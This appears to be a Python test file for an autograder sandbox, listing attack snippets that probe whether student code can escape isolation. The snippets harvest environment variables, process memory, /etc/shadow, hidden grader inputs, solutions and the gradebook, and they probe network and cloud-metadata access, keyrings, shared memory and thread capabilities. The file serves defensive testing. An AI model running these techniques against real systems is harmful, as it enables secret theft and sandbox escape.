"""Stealing: hidden inputs, references, the course's secret, other submissions, the network."""

from __future__ import annotations

from pathlib import Path

from tests.attacks.attack import LAB, LATER, Attack

AIM = "a secret in the attack's own output"
NETWORK = "a connection to a place outside its own kernel"
WALK = """
import os, re, sys
found = set()
for top in ("/work", "/home", "/root", "/tmp", "/run", "/etc/x", "/var", "/srv", "/opt", "/mnt",
            os.getcwd() + "/..", os.getcwd() + "/../..", os.getcwd() + "/../../.."):
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if f not in ("usr", "proc", "sys", "share", "versions")
                      and os.path.join(folder, f) != sys.prefix]
        for name in files:
            path = os.path.join(folder, name)
            try:
                if os.path.getsize(path) < 1 << 20 and not path.endswith((".so", ".pyc")):
                    text = open(path, errors="replace").read()
                    found |= set(re.findall(r"CANARY-[\\w-]+", text))
                    if "secret" in name: found.add(text)
                    found |= set(re.findall("Go thr[o]ugh the heavy-ball form, whose steps", text))
            except OSError:
                pass
print("LOOT", found)
"""
PATHS = """
import glob, os
for pattern in ("../*", "../../*", "../../../*", "../../../../*", "../../.*secret*",
                "../../../.autograder-secret",
                "/run/submissions/*", "/run/submissions/*/in/*",
                "/proc/1/cwd/*", "/proc/1/root" + "/run/submissions/*/in/*"):
    for path in glob.iglob(pattern, include_hidden=True):
        try:
            if not os.path.isfile(path): continue
            text = open(path, errors="replace").read(200_000)
        except OSError:
            continue
        if "CANARY" in text or "secret" in path:
            print("LOOT", path, text[:200_000])
"""
ENVIRONMENT = """
import os, glob
print("LOOT", dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        print("LOOT", path, open(path).read())
    except OSError as error:
        print(path, error)
"""
MEMORY = """
import re
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    found = set()
    for line in maps:
        if not re.search(r" rw.p ", line) or "/usr" in line: continue
        start, end = (int(x, 16) for x in line.split()[0].split("-"))
        if end - start > 80 << 20: continue
        try:
            memory.seek(start); data = memory.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        found |= set(re.findall(rb"CANARY-[a-z]+-[0-9a-f]{12}", data))
        found |= set(re.findall(rb"Go thr[o]ugh the heavy-ball form, whose steps", data))
print("LOOT", found)
"""
OTHERS_MEMORY = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid(): continue
    try:
        print("LOOT", pid, open(f"/proc/{pid}/cmdline").read())
        for what in ("environ", "mem", "maps", "root/etc/shadow", "root/run/submissions"):
            try:
                data = open(f"/proc/{pid}/{what}", "rb", 0).read(100_000)
                print("LOOT", pid, what, data[:20_000])
            except OSError as error:
                print(pid, what, error)
        print("attach", libc.ptrace(16, int(pid), 0, 0), ctypes.get_errno())
    except OSError as error:
        print(pid, error)
"""
FRAMES = """
import gc, sys
def convert_momentum(**inputs):
    frame, found = sys._getframe(), []
    while frame:
        found.append({k: repr(v)[:3000] for k, v in frame.f_locals.items()})
        frame = frame.f_back
    globals()["seen"] = found
    return 0.125
"""
TELL = """
try:
    print("LOOT", seen)
except NameError:
    pass
raise NotImplementedError
"""
LATER_INPUTS = """
import gc
seen = []
for thing in gc.get_objects():
    if isinstance(thing, dict) and "beta1" in thing and "theta" in thing:
        seen.append(repr(thing)[:5000])
    if type(thing).__name__ in ("Expectation", "CaseSet", "Question"):
        seen.append(repr(thing)[:5000])
print("LOOT", seen)
"""
IMPORT = """
import importlib, inspect
for name in ("autograder", "autograder.hidden", "autograder.checks",
             "autograder.checks.optimizers.convert_momentum", "tests.attacks.course"):
    try:
        print("LOOT", inspect.getsource(importlib.import_module(name)))
    except Exception as error:
        print(name, error)
"""
SOLUTION = """
import glob
for path in glob.glob("../../*/*/*.ipynb") + glob.glob("../../../*/*/*.ipynb") + glob.glob("*"):
    try:
        print("LOOT", open(path, errors="replace").read(100_000))
    except OSError:
        pass
"""
DATABASE = """
import glob, sqlite3
for path in glob.glob("../**/gradebook.db") + glob.glob("../../gradebook.db") + glob.glob(
        "../../../gradebook.db") + glob.glob("*.db") + glob.glob("*link*"):
    try:
        rows = list(sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute(
            "select source from source_cell"))
        print("LOOT", rows)
    except Exception as error:
        print(path, error)
        try:
            print("LOOT", open(path, "rb").read(100_000))
        except OSError:
            pass
"""
LINKS = """
import os
for name in sorted(os.listdir()):
    try:
        with open(os.path.join(name, "")[:-1] if os.path.isdir(name) else name, "rb") as file:
            print("LOOT", name, file.read(100_000))
    except OSError as error:
        try:
            for inner in os.listdir(name):
                print("LOOT", inner, open(os.path.join(name, inner), "rb").read(100_000))
        except OSError:
            print(name, error)
"""
NETWORK_OUT = """
import socket
for address in (("1.1.1.1", 53), ("8.8.8.8", 53), ("169.254.169.254", 80), ("10.0.0.1", 22)):
    try:
        socket.create_connection(address, timeout=0.3)
        print("LOOT network", address)
    except OSError as error:
        print(address, error)
try:
    print("LOOT network", socket.gethostbyname("example.org"))
except OSError as error:
    print(error)
print([name for _, name in socket.if_nameindex()])
if [name for _, name in socket.if_nameindex() if name != "lo"]:
    print("LOOT network", socket.if_nameindex())
"""
# The last port and the first socket are offered outside; see `outcome.listening`.
LOOPBACK = """
import socket
for port in (22, 8888, 5432, 47931):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=0.3)
        print("LOOT network port", port)
    except OSError as error:
        print(port, error)
for name in ("\\0attacks-canary", "/tmp/.X11-unix/X0", "/run/docker.sock",
             "/run/dbus/system_bus_socket"):
    try:
        socket.socket(socket.AF_UNIX).connect(name)
        print("LOOT network socket", repr(name))
    except OSError as error:
        print(name, error)
with open("/proc/net/unix") as file:
    lines = [line for line in file if "attacks-canary" in line]
print("LOOT network" if lines else "", lines)
"""
DESCRIPTORS = """
import os, socket
for number in range(3, 4096):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    print(number, target)
    if target.startswith("/") and os.path.isfile(target) and os.path.getsize(target) < 9_999:
        try:
            print("LOOT", target, os.pread(number, 2_000, 0))
        except OSError:
            pass
    try:
        end = socket.socket(fileno=os.dup(number))
        if end.family == socket.AF_UNIX and end.type == socket.SOCK_STREAM:
            end.setblocking(False)
            end.send(b'{"start": "evil", "limits": {}}\\n')
    except OSError:
        pass
"""
HANDLES = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 8)]
for place in ("/usr", "/", "/run/ipc", "/home/student"):
    top = os.open(place, os.O_RDONLY)
    handle = Handle(8, 1, (ctypes.c_ubyte * 8)(2))
    got = libc.open_by_handle_at(top, ctypes.byref(handle), os.O_RDONLY)
    print(place, got, os.strerror(ctypes.get_errno()))
    if got >= 0: print("LOOT network: the whole file system", os.listdir(got))
"""
KEYRING = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(200)
for ring in (-3, -4, -5):
    found = libc.syscall(250, 10, ring, b"user", b"attacks-canary", 0)
    if found > 0:
        libc.syscall(250, 11, found, buffer, 200)
        print("LOOT network: a key of another submission", buffer.value)
    libc.syscall(248, b"user", b"attacks-canary", b"from a student", 14, ring)
"""
# Whichever of the two comes second finds what the first has left.
SHARED = """
import os, glob
for folder in ("/tmp", "/dev/shm", "/run/ipc", "/run", "/var/tmp", "/dev/mqueue", "/"):
    for path in glob.glob(folder + "/attacks-canary*"):
        print("LOOT network: a file of another submission", path)
    try:
        open(f"{folder}/attacks-canary", "w").write("from a student")
    except OSError as error:
        print(folder, error)
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.shmget(0x5EED, 0, 0) >= 0: print("LOOT network: shared memory of another submission")
print(libc.shmget(0x5EED, 4096, 0o1666), libc.msgget(0x5EED, 0o1666))
"""
# Rights belong to threads: those that started before the rights were given up may have kept them.
THREADS_RIGHTS = """
import ctypes, glob, os, re, threading
libc = ctypes.CDLL(None, use_errno=True)
done = threading.Event()
def act():
    print("as", [line for line in open("/proc/thread-self/status") if "Cap" in line])
    if libc.umount2(b"/run/submissions", 2) == 0:
        print("LOOT network: unmounted", glob.glob("/run/submissions/*/*"))
    if libc.unshare(0x00020000) == 0: print("LOOT network: a new namespace")
    done.set()
kernel = get_ipython().kernel
for loop in (kernel.control_thread.io_loop, kernel.iopub_thread.io_loop):
    done.clear()
    loop.add_callback(act)
    done.wait(0.5)
for task in os.listdir("/proc/self/task"):
    for line in open(f"/proc/self/task/{task}/status"):
        if line.startswith(("CapEff", "CapPrm", "CapBnd")) and int(line.split()[1], 16):
            print("LOOT network: a thread with rights", task, line)
for task in os.listdir("/proc/1/task"):
    for line in open(f"/proc/1/task/{task}/status"):
        if line.startswith(("CapEff", "CapPrm")) and int(line.split()[1], 16):
            print("LOOT network: the first process has rights", line)
"""


def links(folder: Path) -> None:
    """Links to all that is worth having."""
    course = folder.parents[2]
    for number, target in enumerate(
        (
            course / ".autograder-secret",
            course / "gradebook.db",
            course / f"solutions/{LAB}/{LAB}.ipynb",
            course / "submitted/a-neighbour",
            course.parent / "kept.txt",
            Path("/etc/passwd"),
            Path("/proc/self/environ"),
        )
    ):
        (folder / f"link{number}").symlink_to(target)
    (folder / "data").mkdir()
    (folder / "data/up").symlink_to(course)


def in_later(code: str) -> dict[str, str]:
    """Tell in a later cell what was seen in an earlier one."""
    return {LATER: code}


ATTACKS = (
    Attack("all files searched", AIM, WALK),
    Attack("paths upwards", AIM, PATHS),
    Attack("environment", AIM, ENVIRONMENT),
    Attack("own memory searched", AIM, MEMORY),
    Attack("memory of other processes", AIM, OTHERS_MEMORY),
    Attack("frames while asked", AIM, FRAMES, cells=in_later(TELL)),
    Attack("inputs of a later check", AIM, LATER_INPUTS),
    Attack("grader imported", AIM, IMPORT),
    Attack("solution opened", AIM, SOLUTION),
    Attack("gradebook read", AIM, DATABASE, lay=links),
    Attack("links in the folder", AIM, LINKS, lay=links),
    Attack("network out", NETWORK, NETWORK_OUT),
    Attack("loopback and sockets", NETWORK, LOOPBACK),
    Attack("inherited descriptors", AIM, DESCRIPTORS),
    Attack("rights of another thread", NETWORK, THREADS_RIGHTS),
    Attack("open by handle", NETWORK, HANDLES),
    Attack("keyring, first student", NETWORK, KEYRING),
    Attack("keyring, second student", NETWORK, KEYRING),
    Attack("shared places, first student", NETWORK, SHARED),
    Attack("shared places, second student", NETWORK, SHARED),
)
